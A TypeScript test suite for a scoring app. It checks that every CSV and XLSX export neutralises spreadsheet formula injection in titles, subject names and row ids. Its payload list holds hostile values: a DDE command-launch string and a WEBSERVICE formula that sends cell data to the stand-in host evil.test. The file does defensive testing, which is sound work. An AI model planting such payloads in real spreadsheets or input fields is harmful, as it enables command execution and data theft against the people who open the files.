import * as XLSX from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../src/lib/csv';
import { workbookBytes } from '../../src/lib/workbook';
import { readWorkbook, upload, download } from '../api/scoring-kit';
import { startNodeTarget } from '../helpers/node-target';
import { allGraded, issue, newMeeting } from '../helpers/scenario';
import { client } from '../helpers/target';

/** What an attacker types into a title, a name or a row id, hoping a scorer's Excel runs it. */
const PAYLOADS = ["-2+3+cmd|' /C calc'!A0", '-1+WEBSERVICE("http://evil.test/?"&A1)', '=1+1', '@SUM(A1:A9)', '+1+1', '=HYPERLINK("http://evil.test","点击")'];
/** Tab and CR survive no trimmed input field, so the rule is also checked on the writers directly. */
const WHITESPACE = ['\t=1+1', '\r=2+2', '\tplain', '\rmore'];

/** A cell a spreadsheet would treat as a formula: formula-like start and not a plain decimal. */
const dangerous = (cell: unknown) => typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

/** RFC 4180 CSV as the cells Excel would see (quotes undone, BOM dropped). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const ch = body[i];
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      }
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      rows.at(-1)!.push(cell);
      cell = '';
    } else if (ch === '\r' && body[i + 1] === '\n') {
      rows.at(-1)!.push(cell);
      cell = '';
      rows.push([]);
      i++;
    }
    else cell += ch;
  }
  return rows.filter((r) => r.length > 0);
}

/** Every cell of every sheet, with its type: 's' text, 'n' number, 'b' boolean. */
function xlsxCells(bytes: ArrayBuffer): { v: unknown; t: string; f?: string }[] {
  const wb = readWorkbook(bytes);
  return wb.SheetNames.flatMap((name) => Object.entries(wb.Sheets[name]).filter(([k]) => !k.startsWith('!')).map(([, c]) => c as XLSX.CellObject)).map((c) => ({ v: c.v, t: c.t, f: c.f }));
}

function expectNeutralised(cells: unknown[], what: string, mustContain: string[]) {
  for (const c of cells) expect(dangerous(c), `${what}: ${JSON.stringify(c)}`).toBe(false);
  for (const p of mustContain) expect(cells, `${what} shows ${p} as text`).toContain(`'${p}`);
}

describe('formula payloads in every spreadsheet that leaves the server', () => {
  let target: Awaited<ReturnType<typeof startNodeTarget>>;
  let scorerKey: string;
  let meetingId: string;

  beforeAll(async () => {
    target = await startNodeTarget();
    const admin = client(target.url, target.adminKey);
    scorerKey = (await admin.post('/api/users', { name: '考评员', role: 'scorer' })).body.key;
    // The meeting's title, its organization and every subject name are payloads.
    const m = await newMeeting(admin, { title: PAYLOADS[0], organization: PAYLOADS[1], eligible: 6, subjects: PAYLOADS.map((name) => ({ name })) });
    meetingId = m.id;
    const tokens = await issue(admin, m.id, 6);
    await admin.post(`/api/meetings/${m.id}/open`);
    for (const t of tokens) expect((await client(target.url).post('/api/ballots', { token: t, choices: allGraded(m.subjects, 'satisfied') })).status).toBe(201);
    await admin.post(`/api/meetings/${m.id}/close`);
  });
  afterAll(() => target?.stop());

  it('the writers neutralise = + - @, tab and CR, and leave real numbers and plain decimals alone', () => {
    const rows = [[...PAYLOADS, ...WHITESPACE], [-5, 0.25, 93.33, '-5', '-0.25', '12.5', 'A-1', "'=already"]];
    const csv = csvCells(toCsv(rows));
    expectNeutralised(csv.flat(), 'CSV', [...PAYLOADS, ...WHITESPACE]);
    expect(csv[1]).toEqual(['-5', '0.25', '93.33', '-5', '-0.25', '12.5', 'A-1', "'=already"]);
    const cells = xlsxCells(workbookBytes([{ name: '表', rows }]));
    expectNeutralised(cells.map((c) => c.v), 'XLSX', [...PAYLOADS, ...WHITESPACE]);
    expect(cells.every((c) => c.f === undefined)).toBe(true);
    // Real numbers stay numbers a scorer can compute with.
    expect(cells.filter((c) => c.t === 'n').map((c) => c.v)).toEqual([-5, 0.25, 93.33]);
  });

  it('results.csv and results.xlsx show every subject name as text, counts as numbers', async () => {
    const csv = await download(target.url, target.adminKey, `/api/meetings/${meetingId}/results.csv`);
    expect(csv.status).toBe(200);
    const grid = csvCells(new TextDecoder().decode(csv.bytes));
    expectNeutralised(grid.flat(), 'results.csv', PAYLOADS);
    expect(grid[1].slice(1, 5)).toEqual(['0', '6', '0', '0']);
    const xlsx = await download(target.url, target.adminKey, `/api/meetings/${meetingId}/results.xlsx`);
    expect(xlsx.status).toBe(200);
    const cells = xlsxCells(xlsx.bytes);
    expectNeutralised(cells.map((c) => c.v), 'results.xlsx', PAYLOADS);
    expect(cells.filter((c) => c.t === 'n').length).toBeGreaterThanOrEqual(PAYLOADS.length * 6);
  });

  it('satisfaction.csv shows the meeting title, organization and subjects as text', async () => {
    const csv = await download(target.url, scorerKey, '/api/satisfaction.csv');
    expect(csv.status).toBe(200);
    expectNeutralised(csvCells(new TextDecoder().decode(csv.bytes)).flat(), 'satisfaction.csv', PAYLOADS);
  });

  it('scoring results (.csv, .xlsx, upload and the page download) show row ids and categories as text', async () => {
    const header = '编号 (id),类别 (category),工作目标考评得分 (work),基本工作目标和党风廉政建设得分 (base),群众满意度 (satisfaction)';
    const lines = PAYLOADS.map((p, i) => `"${p.replace(/"/g, '""')}","${PAYLOADS[(i + 1) % PAYLOADS.length].replace(/"/g, '""')}",${90 - i},85,0.9`);
    const sheet = [header, ...lines].join('\r\n');
    for (const format of ['csv', 'xlsx'] as const) {
      const res = await upload(target.url, scorerKey, { bytes: sheet, name: 'sheet.csv', fields: { rule: 'first-secretary' }, query: `?format=${format}` });
      expect(res.status, res.text.slice(0, 300)).toBe(200);
      const cells = format === 'csv' ? csvCells(res.text).flat() : xlsxCells(res.bytes).map((c) => c.v);
      expectNeutralised(cells, `upload → ${format}`, PAYLOADS);
    }
    // The page's download form carries rows as JSON, untrimmed: tab and CR reach the writer here.
    const rows = WHITESPACE.map((id, i) => ({ id, category: WHITESPACE[(i + 1) % WHITESPACE.length], work: 90, base: 85, satisfaction: 0.9 }));
    for (const format of ['csv', 'xlsx'] as const) {
      const form = new URLSearchParams({ rule: 'first-secretary', rows: JSON.stringify(rows), lines: JSON.stringify(rows.map((_, i) => i + 2)), format });
      const res = await fetch(`${target.url}/staff/scoring/export`, { method: 'POST', headers: { authorization: `Bearer ${scorerKey}`, 'content-type': 'application/x-www-form-urlencoded' }, body: form });
      const bytes = await res.arrayBuffer();
      expect(res.status, new TextDecoder().decode(bytes).slice(0, 300)).toBe(200);
      const cells = format === 'csv' ? csvCells(new TextDecoder().decode(bytes)).flat() : xlsxCells(bytes).map((c) => c.v);
      for (const c of cells) expect(dangerous(c), `page export ${format}: ${JSON.stringify(c)}`).toBe(false);
    }
  });

  it('templates built from named weights show the names as text', async () => {
    const params = encodeURIComponent(JSON.stringify({ weights: { '=1+1': 1, '@SUM(A1)': 1 }, bands: [{ min: 60, grade: '-1+1' }], lowest: '=2' }));
    for (const ext of ['csv', 'xlsx'] as const) {
      const res = await download(target.url, scorerKey, `/api/scoring/templates/weighted.${ext}?params=${params}`);
      expect(res.status, new TextDecoder().decode(res.bytes).slice(0, 300)).toBe(200);
      const cells = ext === 'csv' ? csvCells(new TextDecoder().decode(res.bytes)).flat() : xlsxCells(res.bytes).map((c) => c.v);
      for (const c of cells) expect(dangerous(c), `template ${ext}: ${JSON.stringify(c)}`).toBe(false);
    }
  });
});
